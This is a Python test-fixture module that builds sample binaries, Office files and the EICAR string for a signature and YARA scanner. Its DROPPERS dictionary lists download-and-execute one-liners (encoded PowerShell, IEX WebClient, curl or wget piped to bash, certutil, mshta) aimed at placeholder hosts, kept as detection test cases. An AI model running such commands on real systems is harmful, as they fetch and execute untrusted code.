"""Sample files for the signature and YARA engine tests, built from bytes at test time.

Nothing here is live malware: the programs are bare headers, the documents carry only
the names of a macro project, and the EICAR string is joined from fragments (it must
never appear literally in a source file, or antivirus software flags the source).
"""

from __future__ import annotations

import io
import struct
import zipfile


def eicar() -> bytes:
    """The 68-byte EICAR test string."""
    parts = [
        b"X5O!P%@AP[4\\PZX54",
        b"(P^)7CC)7}$",
        b"EICAR-STANDARD-",
        b"ANTIVIRUS-TEST-FILE!",
        b"$H+H*",
    ]
    return b"".join(parts)


def pe(extra: bytes = b"") -> bytes:
    """A minimal PE header: MZ, e_lfanew at 0x3C, "PE\\0\\0" where it points."""
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 0x80)
    coff = struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 0xF0, 0x22)
    return bytes(dos) + b"PE\0\0" + coff + bytes(0xF0) + extra


def dos_mz_only() -> bytes:
    """MZ with no PE signature where e_lfanew points: not a PE program."""
    dos = bytearray(0x100)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 0x80)
    return bytes(dos)


def elf(*, bits: int = 64, little: bool = True, e_type: int = 2) -> bytes:
    """An ELF header of the given class, byte order and type (2 EXEC, 3 DYN, 1 REL)."""
    order = "<" if little else ">"
    ident = b"\x7fELF" + bytes([1 if bits == 32 else 2, 1 if little else 2, 1]) + bytes(9)
    machine = 0x3E if bits == 64 else 0x03
    return ident + struct.pack(order + "HHI", e_type, machine, 1) + bytes(48)


def macho(*, bits: int = 64, little: bool = True, filetype: int = 2) -> bytes:
    """A thin Mach-O header (filetype 2 EXECUTE, 6 DYLIB, 1 OBJECT...)."""
    order = "<" if little else ">"
    magic = 0xFEEDFACF if bits == 64 else 0xFEEDFACE
    cputype = 0x01000007 if bits == 64 else 7
    header = struct.pack(order + "IiiIII", magic, cputype, 3, filetype, 0, 0)
    return header + (bytes(4) if bits == 64 else b"") + bytes(64)


def macho_fat(arches: int = 2) -> bytes:
    """A universal binary header: CAFEBABE, the count, x86_64 and arm64 entries."""
    cpus = [0x01000007, 0x0100000C]
    entries = b"".join(
        struct.pack(">iiIII", cpus[i % 2], 3, 0x4000 * (i + 1), 0x100, 14) for i in range(arches)
    )
    return struct.pack(">II", 0xCAFEBABE, arches) + entries + bytes(64)


def java_class() -> bytes:
    """A Java class file header: CAFEBABE too, then minor 0 and major 52 (Java 8)."""
    return struct.pack(">IHHH", 0xCAFEBABE, 0, 52, 16) + bytes(64)


def ooxml(*, macros: bool, folder: str = "word") -> bytes:
    """A minimal Office Open XML zip, with ``<folder>/vbaProject.bin`` if ``macros``."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        z.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        z.writestr(f"{folder}/document.xml", "<w:document/>" * 50)
        if macros:
            z.writestr(f"{folder}/vbaProject.bin", bytes(range(256)) * 4)
    return out.getvalue()


def ole(*, vba: bool, pad: int = 0) -> bytes:
    """An OLE compound file header and one directory sector; with ``vba`` one entry is
    the ``_VBA_PROJECT`` stream. ``pad`` zero bytes come between header and directory."""
    header = bytearray(512)
    header[0:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    struct.pack_into("<HHHH", header, 24, 0x3E, 3, 0xFFFE, 9)
    names = ["Root Entry", "WordDocument"] + (["_VBA_PROJECT", "dir"] if vba else ["Data"])
    directory = b"".join(_ole_entry(n, 5 if i == 0 else 2) for i, n in enumerate(names))
    return bytes(header) + bytes(pad) + directory.ljust(512, b"\0")


def _ole_entry(name: str, kind: int) -> bytes:
    encoded = (name + "\0").encode("utf-16-le")
    entry = bytearray(128)
    entry[: len(encoded)] = encoded
    struct.pack_into("<HBB", entry, 64, len(encoded), kind, 1)
    return bytes(entry)


#: One-liners that download code and run it, or hide what they run: each must be caught.
DROPPERS: dict[str, bytes] = {
    "ps-enc": b"powershell.exe -NoP -W Hidden -enc "
    + b"JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0ACAAUwB5AHMAdABlAG0A",
    "ps-encodedcommand": b"pwsh -NonInteractive -EncodedCommand "
    + b"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "ps-e-short": b'cmd /c "powershell -e '
    + b'ZQBjAGgAbwAgAGgAZQBsAGwAbwAgAHcAbwByAGwAZAAgAGYAcgBvAG0AIABwAHMA"',
    "iex-webclient": b"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')",
    "iex-system-webclient": b"iex ((new-object system.net.webclient).downloadstring($u))",
    "invoke-expression-iwr": b"Invoke-Expression (Invoke-WebRequest -Uri $url -UseBasicParsing)",
    "downloadstring-pipe": b"(New-Object Net.WebClient).DownloadString('https://x.test/p') | IEX",
    "iwr-pipe": b"iwr https://x.test/install.ps1 -UseBasicParsing | iex",
    "curl-sh": b"curl -fsSL https://x.test/install.sh | sh",
    "curl-sudo-bash": b"curl -s http://x.test/i | sudo -E bash",
    "wget-bash": b"wget -qO- http://x.test/setup | bash",
    "wget-O-space": b"wget -O - https://x.test/s.sh | bash -s -- --yes",
    "certutil": b"certutil.exe -urlcache -split -f http://x.test/a.exe a.exe",
    "certutil-f-first": b"certutil -f -urlcache http://x.test/b.exe b.exe",
    "mshta-http": b"mshta http://x.test/page.hta",
    "mshta-vbscript": b'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""calc""")',
    "wscript-vbs": b'Set sh = CreateObject("WScript.Shell")\r\nsh.Run "cmd /c calc", 0, True\r\n',
    "wscript-js": b'var s = new ActiveXObject("WScript.Shell");\ns.Exec("calc.exe");\n',
}

#: Texts that mention the same commands harmlessly: none may be flagged.
HARMLESS_TEXTS: dict[str, bytes] = {
    "ps-doc": b"Use Invoke-Expression with care.\nInvoke-WebRequest downloads a page.\n",
    "ps-words": b"The -EncodedCommand parameter of powershell takes base64 text.\n",
    "ps-short-arg": b"powershell -e dir\n",
    "curl-plain": b"curl -fsSL https://x.test/install.sh -o install.sh\nsh install.sh\n",
    "curl-checksum": b"curl -sL https://x.test/f.tar.gz | sha256sum\n",
    "curl-newline": b"curl https://x.test/\n| sh\n",
    "wget-file": b"wget https://x.test/f.tar.gz && tar xf f.tar.gz\n",
    "certutil-hash": b"certutil -hashfile setup.exe SHA256\n",
    "mshta-local": b"mshta.exe is a Windows program that runs HTML Applications.\n",
    "wscript-no-run": b'Set sh = CreateObject("WScript.Shell")\r\nMsgBox sh.CurrentDirectory\r\n',
    "python-run": b"import subprocess\nsubprocess.run(['ls'])\n# WScript.Shell is Windows\n",
    "iex-alone": b"iex is an abbreviation; so is iwr.\n",
}
